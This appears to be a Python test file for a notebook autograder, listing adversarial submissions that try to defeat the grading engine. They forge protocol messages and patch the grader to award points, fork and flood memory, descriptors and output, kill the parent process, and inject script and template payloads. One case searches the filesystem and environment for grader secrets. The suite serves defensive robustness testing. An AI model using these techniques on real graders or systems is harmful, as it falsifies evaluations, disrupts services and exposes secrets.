"""Attacks written by reading the engine: its wire, its clocks, its limits, its pages.

They join the table of `attacks`. Those with ``draws`` are run for their pictures, too.
"""

import json
import struct
import zlib

from tests.engine import little
from tests.engine.attacks import disrupt, forge, leak, meddle, odd
from tests.engine.little import FULL, code, find

WITHOUT_DOUBLE = FULL - 3  # "slope" is tested with "double" as well
DRAWS = []  # names of rows that are drawn

# --- the wire ---------------------------------------------------------------------

_WIRE = """
import gc, json, os, struct, sys
kernel = next((k for k in gc.get_objects() if type(k).__name__ == "Kernel"), None)
wire = sys.modules.get("worker.wire")

def raw(text, *buffers, sizes=None):
    if kernel is not None:
        text = text if isinstance(text, bytes) else json.dumps(text).encode()
        sizes = [len(b) for b in buffers] if sizes is None else sizes
        head = struct.pack("<II", len(text), len(sizes))
        head += struct.pack(f"<{len(sizes)}Q", *sizes)
        kernel.channel.sendall(head + text + b"".join(buffers))

def instead(value, *buffers):
    instead_of_all(["t", "value", ["t", value, ["l"]]], *buffers)

def instead_of_all(tree, *buffers):
    if wire is not None:
        real = wire.encode
        def encode(message, handle):
            wire.encode = real
            return tree, list(buffers)
        wire.encode = encode
"""


def on_the_wire(name, tries, body, score=WITHOUT_DOUBLE):
    """Add an answer of ``double`` that is forged on the wire."""
    lines = "".join(f"    {line}\n" for line in body.split("\n"))
    answer = f"{_WIRE}\ndef double(x):\n{lines}    return 0"
    disrupt(name, tries, answers={"double": answer}, score=score)


on_the_wire(
    "array without bytes",
    "a type of no size, so that no bytes fill a shape of half a million million",
    'instead(["a", "<U0", [1 << 39], 0], b"")',
)
on_the_wire(
    "array of no length",
    "a shape with a zero and a million million in it",
    'instead(["a", "<f8", [0, 1 << 39], 0], b"")',
)
on_the_wire(
    "endless range",
    "a range of ten thousand million numbers, which is short on the wire",
    'instead(["r", 0, 10**10, 1])',
)
disrupt(
    "endless range returned",
    "the same as an honest value, where a test makes an array of it",
    answers={
        "double": "def double(x):\n"
        "    return 2 * x if np.ndim(x) == 0 else range(10**10)"
    },
    score=FULL - 2,
)
disrupt(
    "more numbers than bytes allow",
    "a hundred million small numbers, eight times as large once they are compared",
    answers={"double": "def double(x):\n    return np.zeros((1 << 24, 6), np.int8)"},
    score=WITHOUT_DOUBLE,
)
on_the_wire(
    "five million lists",
    "a frame of 16 MB whose lists take half a gigabyte",
    'raw(b"[" + b"[]," * 5_000_000 + b"0]")',
)
on_the_wire(
    "crafted hashes in many sets",
    "forty sets of numbers of one hash, each as large as one may be",
    "m = (1 << 61) - 1\n"
    'instead(["l"] + [["S"] + [k * m for k in range(1, 2900)]] * 40)',
)
on_the_wire(
    "buffers beyond all sizes",
    "sizes whose sum passes what a number of 64 bits holds",
    'raw(b"0", sizes=[(1 << 64) - 1] * 3)',
)
on_the_wire(
    "frame cut in two",
    "half a frame, and then nothing",
    "if kernel is not None:\n"
    '    kernel.channel.sendall(struct.pack("<II", 999, 0) + b"[")\n'
    "    os._exit(0)",
)
on_the_wire(
    "handles of nobody",
    "an object of a number that is a list, or has three thousand digits",
    'instead(["h", 10**3000 if x == 3 else ["l"], "object", "x", True])',
)
on_the_wire(
    "another's functions",
    "functions of the judge that were never handed over, as a value",
    'instead(["cb", 10**6])',
)
on_the_wire(
    "questions of no kind",
    "requests to the judge that it doesn't know, by the names of its methods",
    'raw(["t", "__class__", ["l"], ["d"]])\nraw(["t", "lose", "x"])',
)
on_the_wire(
    "an error that lies",
    "an exception whose classes, line and trace are nothing of the kind",
    'instead_of_all(["t", "error", ["d", "type", ["l"], "kinds", ["l", 7, "eval"], '
    '"message", ["l"], "line", 10**3000, "trace", "x\\n" * 500_000]])',
)
on_the_wire(
    "a type of NumPy that takes memory",
    "a type for a function: called, it makes as many bytes as it is told",
    'instead(["N", "void"])',
)
forge(
    "answers before questions",
    "fifty right answers to a question wait in the channel",
    answers={
        "double": f"{_WIRE}\nfor _ in range(50):\n"
        '    raw(["t", "value", ["t", 6, ["l"]]])\ndef double(x):\n    return 6'
    },
)
forge(
    "the kernel answers for itself",
    "every request gets the points of the test as its answer",
    first=f"{_WIRE}\nif kernel is not None:\n"
    "    for name in ('call', 'find', 'get', 'attr', 'item', 'len', 'list'):\n"
    "        setattr(type(kernel), 'do_' + name, lambda self, *fields: 3.0)",
)
forge(
    "points in an array",
    "numbers in arrays of one, whose comparisons add up to an array of points",
    answers={"slide": "def slide(x, w):\n    return np.zeros((4, 1))"},
)
forge(
    "points in a wide array",
    "the same with arrays of one in more dimensions",
    answers={"slide": "def slide(x, w):\n    return np.zeros((4, 1, 1, 1))"},
)
forge(
    "the test's function handed back",
    "the function that a test passes is the answer",
    answers={
        "slope": "def slope(f, x):\n    return f",
        "double": "def double(x):\n    return double",
    },
)
disrupt(
    "half letters",
    "halves of letters, which no file can hold, shown, raised and printed",
    last="class Half:\n    def __repr__(self):\n        return chr(0xD800)\n"
    "print('\\udcff'.encode('utf-8', 'surrogatepass'))\nHalf()",
    score=FULL,
)
disrupt(
    "half letters in an error",
    "halves of letters in a message, a file's name and an answer",
    answers={
        "double": "def double(x):\n    raise ValueError(chr(0xDFFF) * 9)",
        "stops": "stops = (chr(0xD800), 2)",
    },
    score=WITHOUT_DOUBLE - 1,
)
disrupt(
    "a group of exceptions",
    "an exception that takes two arguments",
    answers={
        "double": "def double(x):\n    raise ExceptionGroup('two', [ValueError()] * 2)"
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "an exception of no kind",
    "a class that no except of the engine names, in every other function",
    answers={
        "double": "class Own(BaseException):\n    pass\n"
        "def double(x):\n    raise Own(Own)",
        "clear": "def clear(x):\n    raise Own",
    },
    score=WITHOUT_DOUBLE - 1,
)
disrupt(
    "an endless message",
    "an exception whose text is never done",
    answers={
        "double": "class Own(Exception):\n    def __str__(self):\n"
        "        while True:\n            pass\n"
        "def double(x):\n    raise Own"
    },
    score=WITHOUT_DOUBLE,
)

# --- clocks -------------------------------------------------------------------------

disrupt(
    "asleep",
    "a function that sleeps and uses no processor",
    answers={"double": "import time\ndef double(x):\n    time.sleep(10**6)"},
    score=WITHOUT_DOUBLE,
)
disrupt(
    "asleep and deaf",
    "the same with all signals blocked",
    answers={
        "double": "import signal, time\ndef double(x):\n"
        "    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
        "    time.sleep(10**6)"
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "the clock patched",
    "the clock in its own process never strikes",
    answers={
        "double": f"{_WIRE}\nimport signal\ndef double(x):\n"
        "    for item in gc.get_objects():\n"
        "        if type(item).__name__ == 'Clock':\n"
        "            type(item).is_over = lambda self: False\n"
        "    signal.setitimer(signal.ITIMER_REAL, 0)\n"
        "    while True:\n        pass"
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "last in the queue",
    "the lowest priority, so that waiting for a processor is all it does",
    answers={
        "double": """
import os
def double(x):
    tries = (
        lambda: os.nice(19),
        lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(0, {0}),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
    )
    for each in tries:
        try:
            each()
        except OSError:
            pass
    while True:
        pass
"""
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "others work",
    "the process waits while forty of its children keep the processors busy",
    answers={
        "double": """
import os
def double(x):
    for _ in range(40):
        if os.fork() == 0:
            while True:
                pass
    while True:
        os.wait()
"""
    },
    score=WITHOUT_DOUBLE,
)

# --- limits -------------------------------------------------------------------------

disrupt(
    "limits of the parent",
    "the limits and the priority of every process in reach are lowered",
    first="""
import os, resource
for process in {os.getppid(), *range(1, 60), os.getpid() - 1}:
    for kind in range(16):
        if process in (0, os.getpid()):
            continue
        try:
            resource.prlimit(process, kind, (1, 1))
        except (OSError, ValueError):
            pass
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
        lambda: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            change()
        except OSError:
            pass
""",
    score=FULL,
)
disrupt(
    "folders nested deep",
    "three thousand folders in one another, for what cleans up",
    first="import os\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n"
    "open('file', 'w').close()",
    score=FULL,
)
disrupt(
    "folders locked",
    "folders that their owner may not enter, the scratch folder among them",
    first="import os\nhere = os.getcwd()\nos.makedirs('a/b/c')\n"
    "open('a/b/file', 'w').close()\nos.symlink('/etc', 'a/b/link')\n"
    "for place in ('a/b/c', 'a/b', 'a', here):\n"
    "    try:\n        os.chmod(place, 0)\n    except OSError:\n        pass",
    score=FULL,
)
disrupt(
    "a hundred thousand files",
    "so many empty files that their names fill memory",
    first="import os\ntry:\n    for k in range(100_000):\n"
    "        os.close(os.open(f'{k}', os.O_CREAT))\nexcept OSError:\n    pass",
    score=FULL,
)
disrupt(
    "files without names",
    "files that are deleted and written on",
    answers={
        "double": """
import os
kept = []
def double(x):
    while True:
        file = os.open(f"held{len(kept)}", os.O_CREAT | os.O_RDWR)
        os.unlink(f"held{len(kept)}")
        kept.append(file)
        for _ in range(60):
            os.write(file, bytes(1 << 20))
"""
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "memory that is a file",
    "files in memory, which no scratch folder counts",
    answers={
        "double": """
import os
kept = []
def double(x):
    while True:
        kept.append(os.memfd_create("kept"))
        for _ in range(60):
            os.write(kept[-1], bytes(1 << 20))
"""
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "memory that is shared",
    "memory shared with children, in pieces that each process may have",
    answers={
        "double": """
import mmap, os
kept = []
def double(x):
    while True:
        kept.append(mmap.mmap(-1, 1 << 28))
        for k in range(0, 1 << 28, 4096):
            kept[-1][k] = 1
        if os.fork() == 0:
            kept.clear()
"""
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "memory in many small parts",
    "fifty processes that each take what looks harmless",
    answers={
        "double": """
import os, time
def double(x):
    for _ in range(50):
        if os.fork() == 0:
            kept = bytearray(os.urandom(1 << 20)) * 60
            time.sleep(99)
    time.sleep(99)
"""
    },
    score=WITHOUT_DOUBLE,
)
disrupt(
    "all descriptors",
    "every descriptor that there is, as files, pipes, pairs and terminals",
    first="""
import os, socket
kept = []
for make in (os.openpty, socket.socketpair, os.pipe, lambda: open("/dev/null")):
    try:
        for _ in range(60):
            kept.append(make())
    except OSError:
        pass
try:
    while True:
        kept.append(os.dup(0))
except OSError:
    pass
""",
    score=FULL,
)
disrupt(
    "output without end",
    "children that write to both descriptors for ever",
    first="""
import os
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            os.write(1, b"x" * 65536)
            os.write(2, b"\\x1b]0;x\\x07" * 999)
""",
    score=FULL,
)
meddle(
    "output of many cells",
    "three hundred cells that each show as much as a cell may",
    lambda tree: tree["cells"].extend(
        code("import os\nprint(os.urandom(12_000).hex())", f"flood-{k}")
        for k in range(300)
    ),
    kind="disrupt",
    solved=True,
    score=FULL,
)

# --- questions to Keras ---------------------------------------------------------------


def ask(name, tries, body):
    """Add questions in a cell of one's own; each may raise."""
    lines = "".join(f"    {line}\n" for line in body.split("\n"))
    disrupt(
        name,
        tries,
        first="import numpy as np\nfrom byhand import given\n"
        "x, w = np.ones((6, 6)), np.ones((3, 3))\n"
        f"def attempts():\n{lines}"
        "for attempt in attempts():\n    try:\n        attempt()\n"
        "    except Exception as error:\n        print(type(error).__name__)",
        score=FULL,
    )


ask(
    "a question of gigabytes",
    "paddings, dilations, kernels and counts that nobody has memory for",
    "for n in (8000, 10**9, 10**30, -10**9, float('inf'), [[0, 10**7], [10**7, 0]]):\n"
    "    yield lambda n=n: given.conv2d(x, w, padding=n)\n"
    "    yield lambda n=n: given.conv2d(x, w, dilation=n)\n"
    "    yield lambda n=n: given.same_padding(n, 3)\n"
    "    yield lambda n=n: given.same_padding(10, n)",
)
ask(
    "a question of another shape",
    "arrays whose dimensions the estimate of the cost can't match",
    "for shape in ((), (0,), (2000,), (1, 1, 2000, 2000), (2000, 2000, 1, 1, 1)):\n"
    "    big = np.ones(shape)\n"
    "    yield lambda big=big: given.conv2d(big, w)\n"
    "    yield lambda big=big: given.conv2d(x, big)\n"
    "    yield lambda big=big: given.conv2d(big, big, padding=2000)",
)
ask(
    "a question of hostile types",
    "objects, text, sets, deep lists and settings that are no numbers",
    "class Array:\n"
    "    __array__ = __len__ = __iter__ = lambda self, *a, **k: given.conv2d(self, w)\n"
    "deep = []\n"
    "for _ in range(35):\n    deep = [deep]\n"
    "for odd in (Array(), Array, deep, 'x' * 10**6, {1: 2}, {1}, None, ..., 1j, b'x',\n"
    "            np.array(['x', 'y']), np.ones(3, complex), float('nan'), range(9)):\n"
    "    yield lambda odd=odd: given.conv2d(odd, w)\n"
    "    yield lambda odd=odd: given.conv2d(x, w, padding=odd)\n"
    "    yield lambda odd=odd: given.conv2d(x, w, stride=odd, dilation=odd)\n"
    "    yield lambda odd=odd: given.conv2d(x, w, **{'odd name': odd})",
)
ask(
    "a question that divides by zero",
    "strides, kernels and pictures of nothing",
    "for n in (0, -1, (0, 1), (1, 0), True, 0.5):\n"
    "    yield lambda n=n: given.conv2d(x, w, stride=n)\n"
    "    yield lambda n=n: given.conv2d(x, w, dilation=n)\n"
    "yield lambda: given.conv2d(np.ones((0, 0)), w)\n"
    "yield lambda: given.conv2d(x, np.ones((0, 0)))\n"
    "yield lambda: given.same_padding(0, 0)\n"
    "yield lambda: given.same_padding(-5, -3)",
)
ask(
    "questions without end",
    "a new question as often as it is answered",
    "for n in range(20_000):\n    yield lambda n=n: given.conv2d(x * n, w)",
)
ask(
    "an answer changed in place",
    "what Keras said is written over, for those who ask the same",
    "def spoil():\n"
    "    answer = given.conv2d(np.eye(5), np.ones((2, 2)))\n"
    "    answer[...] = 7\n"
    "for _ in range(5):\n    yield spoil",
)
ask(
    "a question by another name",
    "operations that aren't on offer, by names of attributes and of the engine",
    "for name in ('convolution', '__class__', 'operation', 'expected', 'conv2d\\n',\n"
    "             'conv1d', 'x' * 10**6, chr(0xD800)):\n"
    "    yield lambda name=name: getattr(given, name)(x, w)\n"
    "yield lambda: given('expected', 'conv2d', None)",
)
disrupt(
    "questions while it is judged",
    "a function asks in place of computing, after it has killed its process twice",
    answers={
        "double": """
import os
from byhand import given
def double(x):
    given.conv2d(np.eye(5), np.ones((2, 2)))
    os._exit(0)
"""
    },
    score=WITHOUT_DOUBLE,
)

# --- pages, and the pass for pictures ---------------------------------------------


def draws(name, tries, body):
    """Add a cell that is run for its pictures; the answers are honest."""
    disrupt(name, tries, last=body, score=FULL)
    DRAWS.append(name)


def _png(width, height, data=b""):
    def chunk(kind, body):
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = (
        chunk(b"IHDR", head),
        chunk(b"IDAT", zlib.compress(data)),
        chunk(b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


_PICTURE = "class Picture:\n    def _repr_png_(self):\n        return {!r}{}\n"
_SHOW = "from IPython.display import display\n"

draws(
    "a picture of ten gigabytes",
    "a picture of some bytes that a browser unpacks",
    _PICTURE.format(_png(100_000, 100_000), "") + "Picture()",
)
draws(
    "a picture with a script behind it",
    "a picture that goes on as a page",
    _SHOW
    + _PICTURE.format(_png(1, 1, b"\0\0") + b"<script>alert(1)</script>", "")
    + "display(Picture(), metadata={'image/png': {'alt': '\"><script>x</script>'}})",
)
draws(
    "a thousand pictures",
    "more pictures than a page can show, of a megabyte each",
    "import os\n"
    + _SHOW
    + _PICTURE.format(_png(1, 1, b"\0\0"), " + os.urandom(1 << 20)")
    + "for _ in range(1000):\n    display(Picture())",
)
draws(
    "words below a picture",
    "halves of letters, markup and a million letters as the words of a picture",
    _SHOW
    + _PICTURE.format(_png(1, 1, b"\0\0"), "")
    + "for text in (chr(0xD800), '<script>alert(1)</script>', 'x' * 10**6):\n"
    "    Picture.__repr__ = lambda self, text=text: text\n    display(Picture())",
)
draws(
    "what is no picture",
    "pages, vectors and scripts in place of pictures",
    _SHOW + "script = '<script>window.hit=1</script>'\n"
    "for kind in ('text/html', 'image/svg+xml', 'application/javascript',\n"
    "             'text/latex', 'image/png', 'image/jpeg'):\n"
    "    display({kind: script}, raw=True)",
)
draws(
    "gone while it is drawn",
    "the process ends, and takes what started it along",
    "import os, signal\nif get_ipython() is not None:\n"
    "    for process in (os.getppid(), -1):\n"
    "        try:\n            os.kill(process, signal.SIGKILL)\n"
    "        except OSError:\n            pass\n    os._exit(0)",
)
leak(
    "drawn secrets",
    "what is in reach while pictures are drawn, as words below one",
    _SHOW
    + _PICTURE.format(_png(1, 1, b"\0\0"), "")
    + """
import os
found = [str(dict(os.environ))]
for top in ("/proc/1", "/tmp", "/opt/worker", "/root", "/home", "/work", ".."):
    for place, folders, names in os.walk(top):
        if place.count("/") > 6:
            folders[:] = []
        for name in names:
            try:
                text = open(os.path.join(place, name), "rb").read(10**6).decode()
            except (OSError, ValueError):
                continue
            for word in ("hidden" + "-word", "grader" + "-secret", "another" + "-stud"):
                if word in text:
                    at = text.index(word)
                    found.append(text[at : at + 40])
Picture.__repr__ = lambda self: " ".join(found)[-400:]
try:
    display(Picture())
except Exception:
    pass
""",
)
DRAWS.append("drawn secrets")


def _writes(answer):
    def change(tree):
        find(tree, "why")["source"] += f"\n\n{answer}"

    return change


_MARKUP = [
    "<script>window.hit=1</script><svg onload=window.hit=1><iframe srcdoc='<script>'>",
    "[x](javascript:window.hit=1) ![x](http://127.0.0.1/leak.png)",
    "<style>*{position:fixed;inset:0}</style><div style='position:fixed;inset:0'>",
    "<!-- <base href='//evil'> <meta http-equiv=refresh content='0;url=//evil'>",
    "{{ 7 * 7 }} {% raw %} {% include '/etc/passwd' %} ${7*7} <%= 7 %>",
    "### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n### END MARK SCHEME",
]
for _number, _text in enumerate(_MARKUP):
    meddle(
        f"markup in an answer {_number}",
        "what acts, loads, covers the page or is a template's word",
        _writes(_text),
        kind="disrupt",
        solved=True,
        score=FULL,
    )
_SLOW = {
    "brackets": "[" * 20_000,
    "quotes": "\n".join(">" * k for k in range(1, 200)),
    "lists": "\n".join(" " * k + "- a" for k in range(200)),
    "stars": "*a " * 15_000,
    "formulas": "$" + "{" * 4000 + "$ " + "$" + "\\frac{" * 4000 + "$",
    "tables": "|a" * 9000 + "\n" + "|-" * 9000,
}
for _name, _text in _SLOW.items():
    meddle(
        f"markdown that takes long: {_name}",
        "text that a reader of markdown tries in many ways",
        _writes(_text),
        kind="disrupt",
        solved=True,
        score=FULL,
    )
meddle(
    "letters that act",
    "signs that turn text around, ring bells, or end a document",
    _writes("a\u202eb \x1b[2J \x1b]0;x\x07 \x00 \ufffe \u2028 ]]> \x0c"),
    kind="disrupt",
    solved=True,
    score=FULL,
)
meddle(
    "a comment of two megabytes",
    "more comment than all lessons hold",
    lambda tree: tree["cells"].append(code("# " + "long " * 400_000, "comment")),
    kind="disrupt",
    solved=True,
    score=FULL,
)
meddle(
    "a million brackets",
    "code that no parser likes, in cells of one's own",
    lambda tree: tree["cells"].extend(
        code(text, f"deep-{k}")
        for k, text in enumerate(
            ("(" * 10**5, "-" * 10**5 + "1", "a" + ".a" * 10**5, "[" * 90 + "]" * 90)
        )
    ),
    kind="disrupt",
    solved=True,
    score=FULL,
)
disrupt(
    "markup in an error",
    "a message, a name and a value that are pages",
    answers={
        "double": "class Script(Exception):\n    pass\n"
        "Script.__name__ = '<script>window.hit=1</script>'\n"
        "def double(x):\n    raise Script('</pre><script>window.hit=1</script>')"
    },
    score=WITHOUT_DOUBLE,
)

# --- files ------------------------------------------------------------------------


def _twice(tree):
    """Return a file in which each cell's text stands twice, the right one last."""
    whole = json.dumps(tree)
    return whole.replace('"source": ', '"source": "wrong(", "source": ').encode()


odd("keys twice", "each text stands twice in the file, and the last counts", _twice)


def _strange_ids(tree):
    for number, cell in enumerate(tree["cells"]):
        if "nbgrader" not in cell["metadata"]:
            cell["id"] = ["x", number] if number % 2 else "x" * 10**5
    tree["metadata"]["\ud800"] = {"a": [None] * 9}


odd(
    "ids of another type",
    "ids that are lists, or as long as a book, and half a letter as a key",
    lambda tree: (_strange_ids(tree), little.as_bytes(tree))[1],
)
